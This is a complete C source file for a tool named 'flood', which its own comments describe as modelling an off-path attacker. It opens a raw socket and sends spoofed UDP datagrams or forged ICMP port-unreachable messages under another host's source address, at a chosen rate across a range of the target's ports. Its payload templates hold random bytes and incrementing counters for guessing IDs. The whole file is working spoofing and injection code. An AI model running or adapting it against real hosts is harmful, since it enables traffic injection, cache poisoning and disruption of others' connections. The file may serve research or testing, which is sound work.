/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * flood RATE SOURCE PORT TARGET FIRST LAST: what an attacker beside the path can do, who
 * sees nothing but may put any source address into packets.
 *
 * Sends RATE packets a second from SOURCE:PORT, which is somebody else's, to TARGET's ports FIRST
 * to LAST in turn, until SIGTERM, and then says how many there were. What they hold stands on
 * standard input, a line each, used in turn:
 *
 *     udp HEX     a datagram
 *     icmp HEX    "port unreachable", about a datagram that TARGET is said to have sent to SOURCE;
 *                 HEX is the beginning of that, as far as the quotation goes
 *
 * In HEX two letters are an octet, `??` is a random one, and `####` a number of 16 bits that goes
 * up by one from packet to packet: who guesses an ID tries them all.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, PAYLOAD_MAX = 1400, PACKET_MAX = 1500, TEMPLATES_MAX = 32 };
enum { FIXED, RANDOM, COUNTER };
enum { ARGUMENTS = 7, NS_PER_S = 1000000000 };

typedef struct Template {
    bool icmp;
    size_t length;
    uint8_t bytes[PAYLOAD_MAX], kinds[PAYLOAD_MAX];
} Template;

typedef struct Flood {
    double rate;
    struct in_addr source, target;
    uint16_t source_port, first, last;
    Template templates[TEMPLATES_MAX];
    size_t template_count;
    uint64_t random, sent;
} Flood;

static volatile sig_atomic_t stopped;

static void on_signal(int number)
{
    stopped = number;
}

static void die(const char *what)
{
    fprintf(stderr, "flood: %s\n", what);
    exit(2);
}

static uint64_t now_ns(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * NS_PER_S + (uint64_t)now.tv_nsec;
}

/* xorshift64: fast, and good enough for an attacker. */
static uint64_t next_random(Flood *flood)
{
    flood->random ^= flood->random << 13;
    flood->random ^= flood->random >> 7;
    flood->random ^= flood->random << 17;
    return flood->random;
}

/* ---- templates ---- */

static void read_octet(Template *template, const char *text)
{
    const char two[3] = {text[0], text[1], '\0'};

    if (template->length == PAYLOAD_MAX)
        die("a template is too long");
    template->kinds[template->length] = text[0] == '?' ? RANDOM : text[0] == '#' ? COUNTER : FIXED;
    template->bytes[template->length++] = (uint8_t)strtoul(two, NULL, 16);
}

static void read_templates(Flood *flood)
{
    char line[2 * PAYLOAD_MAX + 16];

    while (flood->template_count < TEMPLATES_MAX && fgets(line, sizeof line, stdin) != NULL) {
        Template *template = &flood->templates[flood->template_count++];
        const char *hex = strchr(line, ' ');

        if (hex == NULL)
            die("a line is \"udp HEX\" or \"icmp HEX\"");
        template->icmp = line[0] == 'i';
        for (hex++; hex[0] > ' ' && hex[1] > ' '; hex += 2)
            read_octet(template, hex);
    }
    if (flood->template_count == 0)
        die("nothing to send");
}

static void fill_payload(Flood *flood, const Template *template, uint8_t *out)
{
    bool upper = true;

    memcpy(out, template->bytes, template->length);
    for (size_t i = 0; i < template->length; i++) {
        if (template->kinds[i] == RANDOM) {
            out[i] = (uint8_t)(next_random(flood) >> 32);
        } else if (template->kinds[i] == COUNTER) {
            out[i] = (uint8_t)(upper ? flood->sent >> 8 : flood->sent);
            upper = !upper;
        }
    }
}

/* ---- packets ---- */

static struct iphdr ip_header(struct in_addr from, struct in_addr to, uint8_t protocol,
                              size_t length)
{
    return (struct iphdr){
        .version = 4,
        .ihl = 5,
        .tot_len = htons((uint16_t)(sizeof(struct iphdr) + length)),
        .ttl = 64,
        .protocol = protocol,
        .saddr = from.s_addr,
        .daddr = to.s_addr,
    };
}

static uint16_t checksum(const uint8_t *bytes, size_t length)
{
    uint32_t sum = 0;

    for (size_t i = 0; i < length; i++)
        sum += i % 2 == 0 ? (uint32_t)bytes[i] << 8 : bytes[i];
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static size_t put(uint8_t *out, size_t at, const void *bytes, size_t length)
{
    memcpy(out + at, bytes, length);
    return at + length;
}

/* Returns the length of the whole packet. */
static size_t write_udp(Flood *flood, const Template *template, uint16_t port, uint8_t *out)
{
    const size_t length = sizeof(struct udphdr) + template->length;
    const struct iphdr ip = ip_header(flood->source, flood->target, IPPROTO_UDP, length);
    const struct udphdr udp = {.source = htons(flood->source_port),
                               .dest = htons(port),
                               .len = htons((uint16_t)length)}; /* a checksum of 0 is none */
    size_t at = put(out, 0, &ip, sizeof ip);

    at = put(out, at, &udp, sizeof udp);
    fill_payload(flood, template, out + at);
    return at + template->length;
}

static size_t write_icmp(Flood *flood, const Template *template, uint16_t port, uint8_t *out)
{
    const size_t quoted = sizeof(struct udphdr) + template->length;
    const size_t length = sizeof(struct icmphdr) + sizeof(struct iphdr) + quoted;
    const struct iphdr ip = ip_header(flood->source, flood->target, IPPROTO_ICMP, length);
    const struct iphdr quoted_ip = ip_header(flood->target, flood->source, IPPROTO_UDP, quoted);
    const struct udphdr quoted_udp = {
        .source = htons(port), .dest = htons(flood->source_port), .len = htons((uint16_t)quoted)};
    struct icmphdr icmp = {.type = ICMP_DEST_UNREACH, .code = ICMP_PORT_UNREACH};
    size_t at = put(out, 0, &ip, sizeof ip), begin = at;

    at = put(out, at, &icmp, sizeof icmp);
    at = put(out, at, &quoted_ip, sizeof quoted_ip);
    at = put(out, at, &quoted_udp, sizeof quoted_udp);
    fill_payload(flood, template, out + at);
    at += template->length;
    icmp.checksum = checksum(out + begin, at - begin);
    put(out, begin, &icmp, sizeof icmp);
    return at;
}

/* ---- sending ---- */

static void send_batch(Flood *flood, int fd)
{
    static uint8_t packets[BATCH][PACKET_MAX];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = flood->target};
    struct iovec vectors[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    const unsigned ports = (unsigned)(flood->last - flood->first) + 1;

    for (unsigned i = 0; i < BATCH; i++, flood->sent++) {
        const Template *template = &flood->templates[flood->sent % flood->template_count];
        const uint16_t port = (uint16_t)(flood->first + flood->sent % ports);
        const size_t length =
            (template->icmp ? write_icmp : write_udp)(flood, template, port, packets[i]);

        vectors[i] = (struct iovec){packets[i], length};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    for (unsigned done = 0; done < BATCH;) {
        const int taken = sendmmsg(fd, messages + done, BATCH - done, 0);

        if (taken < 0 && errno != EAGAIN && errno != ENOBUFS && errno != EINTR)
            die(strerror(errno));
        done += taken > 0 ? (unsigned)taken : 0;
    }
}

static void wait_until(uint64_t due_ns)
{
    const struct timespec due = {.tv_sec = (time_t)(due_ns / NS_PER_S),
                                 .tv_nsec = (long)(due_ns % NS_PER_S)};

    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

int main(int argc, char **argv)
{
    static Flood flood;
    const struct sigaction stop = {.sa_handler = on_signal};

    if (argc != ARGUMENTS || inet_pton(AF_INET, argv[2], &flood.source) != 1 ||
        inet_pton(AF_INET, argv[4], &flood.target) != 1)
        die("usage: flood RATE SOURCE PORT TARGET FIRST LAST");
    flood.rate = atof(argv[1]);
    flood.source_port = (uint16_t)atoi(argv[3]);
    flood.first = (uint16_t)atoi(argv[5]);
    flood.last = (uint16_t)atoi(argv[6]);
    read_templates(&flood);
    sigaction(SIGTERM, &stop, NULL);
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0)
        die(strerror(errno));
    const uint64_t begin_ns = now_ns();
    flood.random = begin_ns | 1;
    while (!stopped) {
        send_batch(&flood, fd);
        wait_until(begin_ns + (uint64_t)((double)flood.sent / flood.rate * NS_PER_S));
    }
    printf("%llu in %.3f s\n", (unsigned long long)flood.sent,
           (double)(now_ns() - begin_ns) / NS_PER_S);
    close(fd);
    return 0;
}
